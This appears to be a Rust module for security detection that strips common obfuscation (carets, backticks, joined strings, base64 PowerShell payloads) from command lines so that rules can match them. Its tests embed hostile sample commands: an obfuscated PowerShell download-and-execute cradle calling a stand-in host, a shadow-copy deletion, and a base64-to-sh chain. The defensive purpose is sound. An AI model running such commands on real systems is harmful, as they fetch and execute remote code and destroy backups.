//! Command lines with their usual disguises taken off, so that a rule needs one pattern and not
//! twenty: quotes, carets and backticks, joined string pieces, look-alike dashes, slash switches,
//! odd spacing, case, and base64.

use base64::{
    Engine as _,
    alphabet::STANDARD,
    engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig},
};

/// The shortest run of base64 characters that is worth decoding.
const MIN_ENCODED: usize = 16;

/// How many decoded texts a command line yields at most.
const MAX_DECODED: usize = 4;

/// How often a decoded text is searched for another one inside it.
const MAX_DEPTH: u8 = 2;

/// How many words of a command line are looked at as possible tools.
const MAX_WORDS: usize = 256;

const LENIENT: GeneralPurpose = GeneralPurpose::new(
    &STANDARD,
    GeneralPurposeConfig::new()
        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
        .with_decode_allow_trailing_bits(true),
);

/// How switches are written where a command line comes from.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Switches {
    /// `/quiet` is a switch and becomes `-quiet`.
    Slash,
    /// A slash begins a path.
    Dash,
}

/// The plain form of a command line, followed by the plain forms of what it carries in base64.
///
/// A plain text is lower case, its words stand one space apart, and it begins and ends with a space,
/// so that ` -enc ` finds the switch wherever it stands.
pub(crate) fn commands(text: &str, switches: Switches) -> Vec<String> {
    let folded = fold(text, switches);
    let mut found = Vec::new();
    decode_into(&folded, switches, MAX_DEPTH, &mut found);
    let mut all = vec![folded.to_ascii_lowercase()];
    all.append(&mut found);
    all
}

/// The lower-case name of a program: the last part of its path, without `.exe` or `.com`.
pub(crate) fn stem(path: &str) -> String {
    let trimmed = path.trim_matches(|c: char| c.is_whitespace() || c == '"' || c == '\'');
    let name = trimmed
        .rsplit(['\\', '/'])
        .next()
        .unwrap_or(trimmed)
        .to_ascii_lowercase();
    match name
        .strip_suffix(".exe")
        .or_else(|| name.strip_suffix(".com"))
    {
        Some(bare) => bare.to_owned(),
        None => name,
    }
}

/// The stems of every word of a plain command line that could name a program.
pub(crate) fn words(plain: &str) -> impl Iterator<Item = String> + '_ {
    plain
        .split([
            ' ', '(', ')', '{', '}', '|', '&', ';', ',', '<', '>', '=', '$',
        ])
        .filter(|word| word.len() > 1 && !word.starts_with('-'))
        .take(MAX_WORDS)
        .map(stem)
}

fn fold(text: &str, switches: Switches) -> String {
    let mut out = String::with_capacity(text.len().saturating_add(2));
    out.push(' ');
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        match c {
            '"' | '\'' | '\u{201c}' | '\u{201d}' | '\u{2018}' | '\u{2019}' => {
                if let Some(rest) = after_joint(chars.as_str()) {
                    chars = rest.chars();
                }
            }
            '^' | '`' => {}
            '\u{2010}'..='\u{2015}' | '\u{2212}' => out.push('-'),
            '/' if switches == Switches::Slash => push_slash(&mut out, chars.as_str()),
            c if c.is_whitespace() || c.is_control() => {
                if !out.ends_with(' ') {
                    out.push(' ');
                }
            }
            c => out.push(c),
        }
    }
    if !out.ends_with(' ') {
        out.push(' ');
    }
    out
}

/// What follows `+ '` behind a closing quote: `'Down'+'load'` is one word.
fn after_joint(rest: &str) -> Option<&str> {
    rest.trim_start()
        .strip_prefix('+')?
        .trim_start()
        .strip_prefix(['"', '\''])
}

/// A slash that opens a switch becomes a dash; one that is glued to a program (`cmd.exe/c`) is
/// parted from it.
fn push_slash(out: &mut String, rest: &str) {
    if !opens_switch(rest) {
        out.push('/');
    } else if out.ends_with(' ') {
        out.push('-');
    } else if out
        .get(out.len().saturating_sub(4)..)
        .is_some_and(|end| end.eq_ignore_ascii_case(".exe"))
    {
        out.push_str(" -");
    } else {
        out.push('/');
    }
}

/// Whether what follows a slash reads as a switch and not as a path: a letter or question mark, and
/// nothing that belongs to a path before the word or its `:` or `=` ends.
fn opens_switch(rest: &str) -> bool {
    rest.starts_with(|c: char| c.is_ascii_alphabetic() || c == '?')
        && rest
            .chars()
            .take_while(|c| !c.is_whitespace() && !matches!(c, ':' | '='))
            .all(|c| !matches!(c, '/' | '\\' | '.'))
}

fn decode_into(text: &str, switches: Switches, depth: u8, found: &mut Vec<String>) {
    let Some(deeper) = depth.checked_sub(1) else {
        return;
    };
    let is_base64 = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    for run in text
        .split(|c: char| !is_base64(c))
        .filter(|run| run.len() >= MIN_ENCODED)
    {
        if found.len() >= MAX_DECODED {
            return;
        }
        if let Some(decoded) = decode(run) {
            let folded = fold(&decoded, switches);
            found.push(folded.to_ascii_lowercase());
            decode_into(&folded, switches, deeper, found);
        }
    }
}

fn decode(run: &str) -> Option<String> {
    let digits = run.trim_end_matches('=');
    let whole = if digits.len() % 4 == 1 {
        digits.get(..digits.len().saturating_sub(1))?
    } else {
        digits
    };
    let bytes = LENIENT.decode(whole).ok()?;
    utf16(&bytes).or_else(|| ascii(&bytes))
}

/// Text as PowerShell's `-EncodedCommand` wants it: two bytes a character, the second mostly zero.
fn utf16(bytes: &[u8]) -> Option<String> {
    let units: Vec<u16> = bytes
        .chunks_exact(2)
        .filter_map(|pair| <[u8; 2]>::try_from(pair).ok())
        .map(u16::from_le_bytes)
        .collect();
    let latin = units
        .iter()
        .filter(|unit| (0x09..0x7f).contains(*unit))
        .count();
    (units.len() >= 4 && latin.saturating_mul(10) >= units.len().saturating_mul(9))
        .then(|| String::from_utf16_lossy(&units))
}

/// Printable text with at least one character that prose or code has and a path or a name has not.
fn ascii(bytes: &[u8]) -> Option<String> {
    let text = std::str::from_utf8(bytes).ok()?;
    let readable = text
        .chars()
        .all(|c| c.is_ascii_graphic() || c.is_ascii_whitespace());
    (readable && text.contains([' ', '(', '|', ';', ':', '='])).then(|| text.to_owned())
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn check(text: &str, plain: &str) {
        assert_eq!(
            commands(text, Switches::Slash).first().map(String::as_str),
            Some(plain)
        );
    }

    #[test]
    fn takes_disguises_off() {
        check("p^ow^ershell", " powershell ");
        check(
            "I`E`X ('Down'+'load' + \"String\")",
            " iex (downloadstring) ",
        );
        check(
            "vssadmin.exe  DELETE\tshadows /All /quiet",
            " vssadmin.exe delete shadows -all -quiet ",
        );
        check("powershell \u{2013}enc QQ==", " powershell -enc qq== ");
        check(
            "wmic /node:10.0.0.5 process",
            " wmic -node:10.0.0.5 process ",
        );
        check("cmd.exe/c whoami", " cmd.exe -c whoami ");
        check("", " ");
    }

    #[test]
    fn leaves_paths_and_addresses_alone() {
        check("curl https://a.example/x", " curl https://a.example/x ");
        check("type /usr/share/x", " type /usr/share/x ");
        let unix = commands("cat /etc /quiet", Switches::Dash);
        assert_eq!(unix, [" cat /etc /quiet "]);
    }

    #[test]
    fn reads_what_is_encoded() {
        // `IEX (New-Object Net.WebClient).DownloadString('http://a.example/a')` in UTF-16LE.
        let script = "IEX (New-Object Net.WebClient).DownloadString('http://a.example/a')";
        let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
        let inner = LENIENT.encode(&bytes);
        let found = commands(&format!("powershell -e {inner}"), Switches::Slash);
        let plain = " iex (new-object net.webclient).downloadstring(http://a.example/a) ";
        assert_eq!(found.get(1).map(String::as_str), Some(plain));

        let outer = LENIENT.encode(format!("powershell -e {inner}"));
        let found = commands(&format!("echo {outer} | base64 -d | sh"), Switches::Dash);
        assert_eq!(found.get(2).map(String::as_str), Some(plain));
    }

    #[test]
    fn names_of_programs() {
        assert_eq!(stem(r#""C:\Tools\PsExec64.EXE""#), "psexec64");
        assert_eq!(stem("/usr/bin/curl"), "curl");
        let found: Vec<String> =
            words(r" cmd.exe -c c:\x\vssadmin.exe delete shadows&&(whoami) ").collect();
        assert_eq!(found, ["cmd", "vssadmin", "delete", "shadows", "whoami"]);
    }

    proptest! {
        #[test]
        fn a_plain_text_stays_plain(text in "\\PC{0,200}") {
            for plain in commands(&text, Switches::Slash) {
                prop_assert!(plain.starts_with(' ') && plain.ends_with(' '));
                prop_assert!(!plain.contains("  "));
                prop_assert!(!plain.chars().any(|c| c.is_ascii_uppercase() || matches!(c, '^' | '`' | '"')));
            }
        }

        #[test]
        fn arbitrary_bytes_in_base64_are_bounded(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
            let text = LENIENT.encode(bytes);
            prop_assert!(commands(&text, Switches::Dash).len() <= 1 + MAX_DECODED);
        }
    }
}
